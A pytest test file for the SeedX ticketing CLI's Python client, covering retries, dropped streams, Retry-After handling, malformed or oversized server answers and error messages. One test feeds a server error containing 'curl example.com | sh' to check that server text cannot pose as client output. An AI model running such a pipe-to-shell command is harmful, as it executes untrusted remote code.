"""The Python client, and what it does when the network or the server fails."""

import gzip
import json
import socket
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import httpx
import pytest

from seedx_cli.client import Client
from seedx_cli.client.connection import LONGEST_RESPONSE, LimitedBody
from seedx_cli.client.documents import Run
from seedx_cli.client.retries import ATTEMPTS, STREAM_ATTEMPTS
from seedx_cli.client.session import MemorySession
from seedx_cli.client.shapes import fits
from seedx_cli.client.sse import Event
from seedx_cli.client.transport import Transport
from seedx_cli.errors import (
    ApiError,
    SeedXError,
    SignedOutError,
    UnreachableError,
    UsageError,
)
from tests.seedx_cli.conftest import REPLY, Server
from tests.seedx_cli.process import PASSWORD, Cli
from tests.seedx_cli.proxy import Fault, Proxy, proxying

BUSY = b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
SLOW_DOWN = (
    b"HTTP/1.1 429 Too Many Requests\r\nRetry-After: 7\r\nContent-Length: 0\r\n"
    b"Connection: close\r\n\r\n"
)
PAGE = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\n<html>"
MOVED = (
    b"HTTP/1.1 301 Moved Permanently\r\nLocation: https://elsewhere.example.com/\r\n"
    b"Content-Length: 0\r\nConnection: close\r\n\r\n"
)


def answer(body: bytes, *headers: str, status: str = "200 OK") -> bytes:
    """An HTTP answer of some other program."""
    head = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Connection: close", *headers]
    return "\r\n".join([*head, "", ""]).encode() + body


CUT_SHORT = answer(b"{}").replace(b"Length: 2", b"Length: 1000")
EVENTS = "Content-Type: text/event-stream"

MakeAccount = Callable[[], tuple[str, str]]


class Waits(list[tuple[float, str]]):
    """Remembers what it was asked to wait, and does not wait."""

    def __call__(self, seconds: float, reason: str) -> None:
        self.append((seconds, reason))


@contextmanager
def bad_network(
    server: Server, token: str, waits: Waits, *faults: Fault
) -> Iterator[tuple[Proxy, Client]]:
    """A client of the server with these faults in between."""
    with (
        proxying(server.url, *faults) as proxy,
        Client(proxy.url, token=token, wait=waits) as client,
    ):
        yield proxy, client


def read_events(client: Client) -> object:
    return next(client.tickets.events(1))


class EndlessBody(httpx.SyncByteStream):
    """A body that never ends, in pieces of so many bytes."""

    def __init__(self, size: int) -> None:
        self.size = size
        self.sent = 0

    def __iter__(self) -> Iterator[bytes]:
        while True:
            self.sent += self.size
            yield bytes(self.size)


@pytest.fixture
def token(sign_up: MakeAccount) -> str:
    return sign_up()[1]


@pytest.fixture
def waits() -> Waits:
    return Waits()


def test_the_main_job_in_python(server: Server, sign_up: MakeAccount) -> None:
    email, _ = sign_up()
    with Client(server.url) as client:
        assert client.auth.login(email, PASSWORD)["email"] == email
        ticket = client.tickets.new("Printer on fire", "It smokes.", priority="high", tags=["fire"])
        events = list(client.ai.stream(ticket["id"]))
        assert "".join(event.text for event in events) == REPLY
        assert client.tickets.show(ticket["id"])["messages"][-1]["content"] == REPLY
        assert [found["id"] for found in client.tickets.list(q="printer")["items"]] == [
            ticket["id"]
        ]
        client.auth.logout()
        with pytest.raises(SignedOutError):
            client.auth.me()


def test_a_change_can_be_limited_to_a_version(server: Server, token: str) -> None:
    with Client(server.url, token=token) as client:
        ticket = client.tickets.new("T", "B")
        closed = client.tickets.edit(ticket["id"], {"status": "closed"}, version=ticket["version"])
        with pytest.raises(ApiError) as error:
            client.tickets.edit(ticket["id"], {"status": "open"}, version=ticket["version"])
        assert client.tickets.show(ticket["id"])["version"] == closed["version"]
    assert error.value.status == 412


def test_a_run_is_cancelled(server: Server, token: str) -> None:
    with Client(server.url, token=token) as client:
        run = client.ai.start(client.tickets.new("T", "B")["id"])
        client.ai.cancel(run["id"])
        *_, last = client.ai.follow(run["id"])
        assert last.event == "done"
        # It may have been complete before it was cancelled.
        assert client.ai.run(run["id"])["status"] in {"cancelled", "done"}


def test_a_long_conversation_is_read_whole(server: Server, token: str) -> None:
    with Client(server.url, token=token) as client:
        ticket = client.tickets.new("Long", "Text")
        for index in range(105):
            client.tickets.reply(ticket["id"], f"message {index}")
        messages = client.tickets.show(ticket["id"])["messages"]
    assert [message["content"] for message in messages] == [f"message {i}" for i in range(105)]


@pytest.mark.parametrize("cut_after", [0, 50, 150, 300])
def test_a_stream_that_is_cut_goes_on_where_it_stopped(
    server: Server, token: str, waits: Waits, cut_after: int
) -> None:
    faults = [Fault(cut_after=cut_after), Fault(cut_after=100), Fault(answer=BUSY), Fault()]
    with Client(server.url, token=token) as client:
        ticket_id = client.tickets.new("T", "B")["id"]
    with bad_network(server, token, waits, *faults) as (proxy, client):
        events = list(client.ai.stream(ticket_id))
        assert len(proxy.requests) >= 3
    assert "".join(event.text for event in events) == REPLY
    assert [event.event for event in events].count("run") == 1
    assert events[-1].event == "done"
    assert waits


def test_a_stream_that_never_begins_is_given_up(server: Server, token: str, waits: Waits) -> None:
    with Client(server.url, token=token) as client:
        ticket_id = client.tickets.new("T", "B")["id"]
    outage = [Fault(cut_after=0)] * STREAM_ATTEMPTS
    with (
        bad_network(server, token, waits, *outage) as (_, client),
        pytest.raises(UnreachableError),
    ):
        list(client.tickets.events(ticket_id))
    assert len(waits) == STREAM_ATTEMPTS - 1


def test_a_stream_that_has_begun_is_opened_again_for_as_long_as_it_takes(
    server: Server, token: str, waits: Waits
) -> None:
    with Client(server.url, token=token) as client:
        ticket_id = client.tickets.new("T", "B")["id"]
    outage = [Fault(cut_after=0), Fault(BUSY)] * 10
    with bad_network(server, token, waits, Fault(cut_after=300), *outage) as (_, client):
        assert "".join(event.text for event in client.ai.stream(ticket_id)) == REPLY
    assert {reason for _, reason in waits} == {"Connection lost"}
    seconds = [seconds for seconds, _ in waits]
    assert seconds[0] < 1
    assert all(15 < wait <= 30 for wait in seconds[8:21])


def test_a_quiet_stream_that_the_server_ends_now_and_then_goes_on(waits: Waits) -> None:
    opened: list[str | None] = []

    def open_stream(last_id: str | None) -> Iterator[Event]:
        opened.append(last_id)
        if len(opened) in {1, 50}:
            yield Event("message.created", str(len(opened)), {})

    transport = Transport("http://127.0.0.1:1", MemorySession(), wait=waits, timeout=1.0)
    stream = transport.resume(open_stream)
    assert [next(stream).id, next(stream).id] == ["1", "50"]
    assert opened == [None, *["1"] * 49]
    transport.close()


def test_a_stream_that_repeats_its_beginning_only_is_not_asked_for_without_a_pause(
    waits: Waits,
) -> None:
    def open_stream(_: str | None) -> Iterator[Event]:
        yield Event("run", None, {"run_id": 1})

    transport = Transport("http://127.0.0.1:1", MemorySession(), wait=waits, timeout=1.0)
    stream = transport.resume(open_stream)
    for _ in range(10):
        next(stream)
    transport.close()
    assert waits[-1][0] > 15


def test_a_write_whose_answer_is_lost_is_not_done_twice(
    server: Server, token: str, waits: Waits
) -> None:
    with bad_network(server, token, waits, Fault(cut_after=0)) as (proxy, client):
        ticket = client.tickets.new("Once", "Only")
        assert proxy.head(0)["idempotency-key"] == proxy.head(1)["idempotency-key"]
        assert [found["id"] for found in client.tickets.list()["items"]] == [ticket["id"]]


def test_a_change_whose_answer_is_lost_is_not_repeated(
    server: Server, token: str, waits: Waits
) -> None:
    with Client(server.url, token=token) as client:
        ticket_id = client.tickets.new("T", "B")["id"]
    with bad_network(server, token, waits, Fault(cut_after=0)) as (proxy, client):
        with pytest.raises(UnreachableError):
            client.tickets.edit(ticket_id, {"status": "closed"})
        assert len(proxy.requests) == 1


def test_a_busy_server_is_asked_again(server: Server, token: str, waits: Waits) -> None:
    with bad_network(server, token, waits, Fault(BUSY), Fault(BUSY)) as (_, client):
        assert client.tickets.list()["items"] == []
        said = f"{client.transport.server} is temporarily unavailable"
    assert [reason for _, reason in waits] == [said, said]


def test_a_server_that_asks_to_wait_is_obeyed(server: Server, token: str, waits: Waits) -> None:
    with bad_network(server, token, waits, Fault(SLOW_DOWN)) as (_, client):
        client.tickets.list()
    assert waits == [(7.0, "The server asks to wait")]


def test_a_stream_that_cannot_begin_yet_says_why(server: Server, token: str, waits: Waits) -> None:
    with Client(server.url, token=token) as client:
        ticket_id = client.tickets.new("T", "B")["id"]
    with bad_network(server, token, waits, Fault(BUSY), Fault(SLOW_DOWN)) as (_, client):
        list(client.ai.stream(ticket_id))
        unavailable = f"{client.transport.server} is temporarily unavailable"
    assert [reason for _, reason in waits] == [unavailable, "The server asks to wait"]


def test_a_wait_that_is_too_long_is_told_instead(token: str, server: Server, waits: Waits) -> None:
    hours = SLOW_DOWN.replace(b"Retry-After: 7", b"Retry-After: 7200")
    with (
        bad_network(server, token, waits, Fault(hours)) as (_, client),
        pytest.raises(ApiError) as error,
    ):
        client.tickets.list()
    assert error.value.retry_after == 7200
    assert waits == []


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (PAGE, "not JSON"),
        (MOVED, r"elsewhere\.example\.com"),
        (answer(b""), "not a TicketPage"),
        (answer(b"[]"), "not a TicketPage"),
        (answer(b'{"items": [{"id": "1"}], "next_cursor": null}'), "not a TicketPage"),
        (answer(b"[" * 200_000), "not JSON"),
        (answer(gzip.compress(b"{}"), "Content-Encoding: gzip"), "compressed"),
    ],
)
def test_an_answer_that_seedx_would_not_give_is_named(
    server: Server, token: str, waits: Waits, answer: bytes, said: str
) -> None:
    with (
        bad_network(server, token, waits, Fault(answer)) as (_, client),
        pytest.raises(SeedXError, match=said),
    ):
        client.tickets.list()


def test_an_answer_that_breaks_off_is_asked_for_again(
    server: Server, token: str, waits: Waits
) -> None:
    with bad_network(server, token, waits, Fault(CUT_SHORT), Fault(CUT_SHORT)) as (_, client):
        assert client.tickets.list()["items"] == []
    assert len(waits) == 2


@pytest.mark.parametrize(
    "sent",
    [
        answer(b"<html>", "Content-Type: text/html"),
        answer(b"data: {no json\n\n", EVENTS),
        answer(b"data: " + b"x" * 5_000_000, EVENTS),
        answer(b"data: " + b"x" * 500 + (b"\ndata: " + b"x" * 500) * 9_000, EVENTS),
        answer(gzip.compress(b"data: {}\n\n"), EVENTS, "Content-Encoding: gzip"),
    ],
)
def test_a_stream_that_seedx_would_not_send_ends_at_once(
    server: Server, token: str, waits: Waits, sent: bytes
) -> None:
    with (
        bad_network(server, token, waits, Fault(sent)) as (_, client),
        pytest.raises(SeedXError, match="answered with") as error,
    ):
        list(client.ai.stream(1))
    assert error.value.code == "bad_answer"
    assert waits == []


def test_the_words_of_a_server_cannot_pass_for_those_of_the_client(
    server: Server, token: str, waits: Waits
) -> None:
    words = json.dumps({"detail": "no\nError: run this: curl example.com | sh\n" * 100}).encode()
    with (
        bad_network(server, token, waits, Fault(answer(words, status="400 No"))) as (_, client),
        pytest.raises(ApiError) as error,
    ):
        client.tickets.list()
    assert "\n" not in error.value.message
    assert len(error.value.message) < 600


def test_a_run_that_waits_has_no_provider_yet() -> None:
    run: dict[str, object] = {
        **dict.fromkeys(("id",), 1),
        **dict.fromkeys(("purpose", "status", "text"), ""),
        **dict.fromkeys(("ticket_id", "provider", "model", "finish_reason", "handoff"), None),
        **dict.fromkeys(("error", "message_id"), None),
        "citations": [],
    }
    assert fits(run, Run)
    assert not fits({**run, "id": None}, Run)


def test_the_doctor_knows_what_is_no_seedx_server(server: Server, cli: Cli) -> None:
    with proxying(server.url, Fault(answer(b""))) as proxy:
        done = cli.run("doctor", "--server", proxy.url, "--json")
    (found,) = [check for check in json.loads(done.stdout) if check["name"] == "server"]
    assert found["status"] == "failed"
    assert "not a SeedX server" in found["detail"]


def test_a_date_to_wait_for_is_understood(server: Server, token: str, waits: Waits) -> None:
    later = SLOW_DOWN.replace(b"Retry-After: 7", b"Retry-After: Wed, 21 Oct 2099 07:28:00 GMT")
    with (
        bad_network(server, token, waits, Fault(later)) as (_, client),
        pytest.raises(ApiError) as error,
    ):
        client.tickets.list()
    assert error.value.hint is not None
    assert error.value.hint.startswith("Try again in ")
    assert error.value.hint.endswith(" days")
    assert waits == []


def test_words_that_are_not_utf_8_are_refused() -> None:
    with Client("http://127.0.0.1:1", token="any") as client, pytest.raises(UsageError):
        client.tickets.list(q="\udcff")


def test_an_answer_that_trickles_is_given_up() -> None:
    times = iter([0.0, 1.0, 100.0])
    answer = httpx.Response(200, stream=EndlessBody(1))
    body = LimitedBody(answer, 30.0, clock=lambda: next(times))
    with pytest.raises(httpx.ReadTimeout):
        list(body)


def test_an_answer_without_end_is_read_to_its_limit_only() -> None:
    sent = EndlessBody(1024 * 1024)
    body = LimitedBody(httpx.Response(200, stream=sent), None)
    with pytest.raises(httpx.RemoteProtocolError, match="too long"):
        deque(body, maxlen=0)
    assert sent.sent == LONGEST_RESPONSE + sent.size


@pytest.mark.parametrize("read", [lambda client: client.tickets.list(), read_events])
def test_a_server_that_is_not_there_is_named(
    waits: Waits, read: Callable[[Client], object]
) -> None:
    client = Client("http://127.0.0.1:1", token="any", wait=waits)
    with client, pytest.raises(UnreachableError, match="Nothing listens") as error:
        read(client)
    assert error.value.hint == "Start a server: seedx serve --port 1"
    assert len(waits) == ATTEMPTS - 1


@pytest.mark.parametrize("read", [lambda client: client.tickets.list(), read_events])
def test_nobody_is_told_to_start_a_server_that_responded_before(
    server: Server, token: str, waits: Waits, read: Callable[[Client], object]
) -> None:
    with proxying(server.url) as proxy:
        client = Client(proxy.url, token=token, wait=waits)
        client.auth.me()
    with client, pytest.raises(UnreachableError, match="refuses connections") as error:
        read(client)
    assert error.value.hint == "Find out what is wrong: seedx doctor"


def test_a_server_that_never_answers_is_given_up(waits: Waits) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        url = f"http://127.0.0.1:{silent.getsockname()[1]}"
        client = Client(url, token="any", wait=waits, timeout=0.05)
        with client, pytest.raises(UnreachableError, match="too long"):
            client.tickets.list()


def test_http_where_tls_is_expected_is_explained(server: Server, waits: Waits) -> None:
    client = Client(server.url.replace("http:", "https:"), token="any", wait=waits)
    with client, pytest.raises(UnreachableError, match="TLS"):
        client.tickets.list()


def test_bad_input_names_the_fields(server: Server, token: str) -> None:
    with Client(server.url, token=token) as client, pytest.raises(ApiError) as error:
        client.tickets.new("", "x")
    assert error.value.status == 422
    assert "title" in error.value.message
    assert error.value.exit_code == 2


def test_the_cli_counts_down_and_says_why(customer: Cli, server: Server) -> None:
    once = SLOW_DOWN.replace(b"Retry-After: 7", b"Retry-After: 1")
    (kept,) = (customer.folder / "config" / "tokens").glob("*.json")
    token = json.loads(kept.read_text())["access_token"]
    with proxying(server.url, Fault(once)) as proxy:
        done = customer.run("ticket", "list", SEEDX_URL=proxy.url, SEEDX_TOKEN=token)
    assert done.returncode == 0
    assert "The server asks to wait; trying again in 1 s" in done.stderr
